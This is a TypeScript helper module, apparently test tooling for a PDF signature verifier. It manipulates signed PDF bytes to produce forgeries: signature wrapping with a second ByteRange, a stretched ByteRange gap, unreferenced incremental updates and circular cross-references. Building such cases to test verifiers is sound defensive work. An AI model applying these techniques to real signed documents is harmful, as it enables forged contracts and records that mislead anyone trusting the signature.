/** Ways to cut and sew the bytes of a signed PDF. */

/** Replaces the first occurrence of a text by another of the same length, so that no offset moves. */
export function overwrite(bytes: Buffer, text: string, by: string, from = 0): Buffer {
  const at = bytes.indexOf(text, from, 'latin1')
  if (at === -1 || text.length !== by.length) throw new Error(`cannot overwrite ${text}`)
  const out = Buffer.from(bytes)
  out.write(by, at, 'latin1')
  return out
}

/** Replaces what a pattern finds. */
export function edited(bytes: Buffer, pattern: RegExp, by: string | ((text: string) => string)): Buffer {
  const text = bytes.toString('latin1')
  const changed = typeof by === 'string' ? text.replace(pattern, by) : text.replace(pattern, by)
  if (changed === text) throw new Error(`cannot find ${pattern}`)
  return Buffer.from(changed, 'latin1')
}

/** The numbers of the last byte range in the file. */
export function rangeOf(bytes: Buffer): [number, number, number, number] {
  const text = bytes.toString('latin1')
  const match = /\/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]/.exec(text.slice(text.lastIndexOf('/ByteRange')))
  const [start = 0, before = 0, after = 0, rest = 0] = match?.slice(1).map(Number) ?? []
  return [start, before, after, rest]
}

const written = (numbers: readonly (number | string)[]) =>
  numbers.map((each) => String(each).padStart(10, '0')).join(' ')

/** Writes other numbers into the byte range, in the same number of bytes. */
export function withRange(
  bytes: Buffer,
  change: (range: [number, number, number, number]) => readonly (number | string)[],
): Buffer {
  const range = rangeOf(bytes)
  const [, ...rest] = change(range)
  return overwrite(bytes, `[0 ${written(range.slice(1))}]`, `[0 ${written(rest)}]`)
}

/**
 * Signature wrapping: the signed tail is moved away, a second ByteRange behind Contents points to it, and in the room between stands
 * what the forger likes.
 */
export function wrapped(bytes: Buffer, evil: string): Buffer {
  const [, before, after, rest] = rangeOf(bytes)
  const room = `${evil}`.padEnd(400)
  const moved = after + 60 + room.length
  const second = ` /ByteRange [0 ${before} ${moved} ${rest}] `.padEnd(60)
  return Buffer.concat([bytes.subarray(0, after), Buffer.from(second + room, 'latin1'), bytes.subarray(after)])
}

/** The same, with a larger gap in the only ByteRange; the range itself is signed, so its hash breaks too. */
export function stretched(bytes: Buffer, evil: string): Buffer {
  const [, , after] = rangeOf(bytes)
  const room = Buffer.from(evil.padEnd(200), 'latin1')
  const out = Buffer.concat([bytes.subarray(0, after), room, bytes.subarray(after)])
  return withRange(out, ([start, before, , rest]) => [start, before, after + room.length, rest])
}

/** An incremental update whose objects no cross-reference names, as readers find it that rebuild their tables. */
export const unreferencedUpdate = (bytes: Buffer, object: string) =>
  Buffer.concat([bytes, Buffer.from(`${object}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1')])

/** The last cross-reference section names itself as the one before. */
export function circular(bytes: Buffer): Buffer {
  const text = bytes.toString('latin1')
  const start = /startxref\n(\d+)\n%%EOF\n$/.exec(text)?.[1]
  return Buffer.from(text.replace(/\/Prev \d+(?=[\s\S]{0,60}startxref\n\d+\n%%EOF\n$)/, `/Prev ${start}`), 'latin1')
}
